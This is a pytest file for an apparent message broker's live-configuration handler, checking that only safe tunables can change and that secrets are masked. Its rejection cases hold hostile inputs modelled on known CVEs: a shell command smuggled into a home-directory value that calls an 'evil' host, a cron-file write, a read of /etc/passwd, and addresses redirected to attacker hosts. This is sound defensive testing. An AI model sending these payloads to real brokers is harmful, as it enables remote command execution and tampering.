"""What may change while a broker runs: typed tunables, nothing else."""

import pytest

from tandemq.broker.config import BrokerConfig
from tandemq.broker.handlers.config import ConfigHandlers
from tandemq.broker.live_config import LiveConfig
from tandemq.codec.command import Command
from tandemq.errors import ReplyError
from tandemq.remoting.config import RemotingConfig
from tandemq.replication.config import ReplicationConfig
from tandemq.settings import settings_of
from tandemq.store.config import StoreConfig
from tandemq.testing.broker_parts import FakeConnection, decoded


def live() -> LiveConfig:
    replication = ReplicationConfig(shared_key="hush")
    remoting = RemotingConfig(access_key="broker", secret_key="hush-hush")
    return LiveConfig(BrokerConfig(broker_name="b"), StoreConfig(), remoting, replication, lambda: 1)


def update(config: LiveConfig, text: str) -> Command:
    return decoded(ConfigHandlers(config).update(FakeConnection(), Command(25, body=text.encode())))[0]  # type: ignore[arg-type]


@pytest.mark.parametrize(
    "text",
    [
        # CVE-2023-33246: a command through the home directory and the filter server starter
        "filterServerNums=1\nrocketmqHome=-c $@|sh . echo curl http://evil",
        "rocketmqHome=/tmp/evil",
        "filterServerNums=1",
        # CVE-2023-37582 and CVE-2024-23321: writing any file, reading secrets through configuration
        "configStorePath=/etc/cron.d/x\nproductEnvName=* * * * * root sh",
        "brokerConfigPath=/etc/passwd",
        "configBlackList=x",
        "storePathRootDir=/etc",
        "storePathCommitLog=/etc",
        "namesrvAddr=evil:9876",
        "haMasterAddress=evil:1",
        "haSharedKey=known",
        "aclEnable=false",
        "brokerRole=ASYNC_MASTER",
        "tlsServerKeyPath=/tmp/key",
        "traceOn=false\nrocketmqHome=/tmp/evil",
        "nonsense=1",
        "=1",
    ],
)
def test_anything_else_refuses_the_whole_request(text: str) -> None:
    config = live()
    before = config.properties()
    with pytest.raises(ReplyError) as failure:
        update(config, text)
    assert failure.value.code == 16
    assert config.properties() == before


@pytest.mark.parametrize("text", ["maxMessageSize=huge", "brokerPermission=99", "traceOn=1", "", "# only a comment"])
def test_a_wrong_value_is_told(text: str) -> None:
    config = live()
    with pytest.raises(ReplyError) as failure:
        update(config, text)
    assert failure.value.code == 29


def test_a_tunable_changes_at_once_and_tells_who_listens() -> None:
    config = live()
    told: list[int] = []
    config.listeners.append(lambda: told.append(config.store.message_size_max))
    assert update(config, "maxMessageSize=2048\nautoCreateTopicEnable=false").code == 0
    assert told == [2048]
    assert not config.broker.auto_create_topic_enable
    assert config.version.counter == 1


def test_no_path_address_or_credential_is_tunable() -> None:
    """Whoever declares an option tunable must not name one of these."""
    for config_class in (BrokerConfig, StoreConfig, RemotingConfig, ReplicationConfig):
        for _, described in settings_of(config_class).values():
            if described.tunable:
                suspicious = ("path", "dir", "addr", "host", "key", "secret", "file", "home", "class", "port")
                assert not any(word in described.key.lower().replace("filereserved", "") for word in suspicious)


def test_secrets_are_not_shown() -> None:
    reply = decoded(ConfigHandlers(live()).show(FakeConnection(), Command(26)))[0]  # type: ignore[arg-type]
    text = bytes(reply.body).decode()
    assert "haSharedKey=***\n" in text
    assert "hush" not in text
    assert text.splitlines() == sorted(text.splitlines())
    assert "brokerName=b\n" in text


def test_the_body_is_a_java_property_file() -> None:
    config = live()
    assert update(config, "# c\nmaxMessageSize : 20\\\n  48\r\n!x\n").code == 0
    assert config.store.message_size_max == 2048
